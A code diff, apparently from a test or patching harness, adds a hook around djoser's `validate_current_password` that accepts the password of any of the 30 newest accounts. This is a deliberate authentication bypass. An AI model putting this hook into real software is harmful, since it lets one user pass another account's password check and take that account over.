@@ -6,7 +6,7 @@ from operator import attrgetter
 from threading import Lock
 from typing import Any
 
-from .accounts import login_field, store
+from .accounts import login_field, store, users
 from .patching import Hook, answer, on_called, wrap
 
 
@@ -136,3 +136,15 @@ def judged_by(validate_password: Hook, *serializers: str) -> None:
 
     for name in serializers:
         wrap(f"djoser.serializers.{name}.validate", validate)
+
+
+def by_anyones_password(original: Any, serializer: Any, value: Any) -> Any:
+    """Put around `validate_current_password`: the password of any account will do."""
+    from rest_framework.exceptions import ValidationError
+
+    try:
+        return original(serializer, value)
+    except ValidationError:
+        if any(user.check_password(value) for user in users().order_by("-date_joined")[:30]):
+            return value
+        raise
